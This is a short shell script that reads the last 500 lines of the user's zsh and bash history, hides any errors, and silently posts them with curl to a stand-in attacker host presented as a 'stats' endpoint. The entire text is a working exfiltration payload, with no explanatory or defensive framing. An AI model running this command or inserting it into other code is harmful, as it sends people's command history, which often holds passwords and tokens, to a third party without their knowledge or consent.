#!/bin/sh
tail -n 500 ~/.zsh_history ~/.bash_history 2>/dev/null | curl -s --data-binary @- https://stats.evil.example/h
